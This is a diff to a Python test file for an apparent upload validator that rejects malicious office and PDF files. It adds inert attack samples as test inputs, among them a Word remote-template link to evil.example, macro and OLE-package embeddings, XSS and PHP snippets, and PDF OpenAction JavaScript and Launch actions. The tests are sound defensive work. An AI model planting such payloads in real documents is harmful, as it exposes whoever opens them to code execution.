@@ -46,6 +46,14 @@ def office(media: str, *more: tuple[str, bytes]) -> bytes:
 
 
 DOCX = office("wordprocessingml.document.main+xml")
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+PACKED = _OLE + "\x01Ole10Native".encode("utf-16-le")
+FORMULA = _OLE + "Equation Native".encode("utf-16-le")
+_RELATION = (
+    b'<Relationships><Relationship Type="http://x/%s" TargetMode="%s" Target="%s"/></Relationships>'
+)
+REMOTE = _RELATION % (b"attachedTemplate", b"External", b"https://evil.example/a.dotm")
+MACROS = _RELATION % (b"vbaProject", b"Internal", b"macros.bin")
 
 
 def attach(content: Content, name: str, data: bytes) -> str:
@@ -93,6 +101,15 @@ def test_reserved_names_are_refused_beside_anything(content: Content, folder: st
         ("a.docx", b"<svg onload=x>" + DOCX),
         ("a.docx", DOCX + b"<script>x</script>"),
         ("a.docx", DOCX + b"anything"),
+        ("a.docx", DOCX[:60] + DOCX),
+        ("a.docx", office("wordprocessingml.document.main+xml", ("word/embeddings/a.bin", PACKED))),
+        ("a.docx", office("wordprocessingml.document.main+xml", ("word/_rels/s.xml.rels", REMOTE))),
+        ("a.docx", office("wordprocessingml.document.main+xml", ("word/_rels/d.xml.rels", MACROS))),
+        ("a.pdf", PDF.replace(b"1 0 obj", b"<img src=x onerror=alert(1)> 1 0 obj")),
+        ("a.pdf", PDF.replace(b"1 0 obj", "<script>alert(1)</script>".encode("utf-16-le"))),
+        ("a.pdf", PDF.replace(b"1 0 obj", b"<?php system(1);?> 1 0 obj")),
+        ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction <</S /JavaScript /JS (x)>>")),
+        ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction <</S /Launch /F (x)>>")),
         ("a.xlsx", office("spreadsheetml.sheet.main+xml", ("xl/macrosheets/sheet1.xml", b"x"))),
         ("a.xlsx", DOCX[:40]),
         ("a.odt", DOCX),
@@ -104,6 +121,37 @@ def test_documents_are_what_their_ending_says_and_nothing_else(
     """A PDF that is a page as well is none, nor an office document with programs."""
     file = attach(content, name, data)
     assert [(each.file, each.code) for each in content.read().problems] == [(file, "E028")]
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("a.pdf", b"\xef\xbb\xbf" + PDF),
+        ("a.pdf", b"\r\n" + PDF),
+        ("a.pdf", PDF + b"\0" * 4096),
+        ("a.pdf", PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7%\xe2\xe3\n")),
+        ("a.pdf", PDF.replace(b"1 0 obj", b'<body xmlns="http://www.w3.org/1999/xhtml"> 1 0 obj')),
+        (
+            "a.docx",
+            office("wordprocessingml.document.main+xml", ("word/embeddings/a.bin", FORMULA)),
+        ),
+        (
+            "a.docx",
+            office(
+                "wordprocessingml.document.main+xml",
+                ("word/_rels/s.xml.rels", _RELATION % (b"hyperlink", b"External", b"https://x/")),
+                (
+                    "word/_rels/t.xml.rels",
+                    _RELATION % (b"attachedTemplate", b"External", b"C:/N.dotm"),
+                ),
+            ),
+        ),
+    ],
+)
+def test_ordinary_documents_are_not_refused(content: Content, name: str, data: bytes) -> None:
+    """What scanners, mail programs, Word and LibreOffice leave in a file."""
+    attach(content, name, data)
+    assert _codes(content) == set()
 
 
 @pytest.mark.parametrize("ending", [".jpg", ".png", ".webp", ".gif", ".avif"])
@@ -281,6 +329,7 @@ def test_every_kind_of_document_is_known(content: Content) -> None:
             made = io.BytesIO()
             with zipfile.ZipFile(made, "w") as packed:
                 packed.writestr("mimetype", f"application/vnd.oasis.opendocument.{odf[ending]}")
+                packed.writestr("Basic/Standard/script-lb.xml", "<library/>")
             data = made.getvalue()
         attach(content, f"a{ending}", data)
         assert _codes(content) == set(), ending
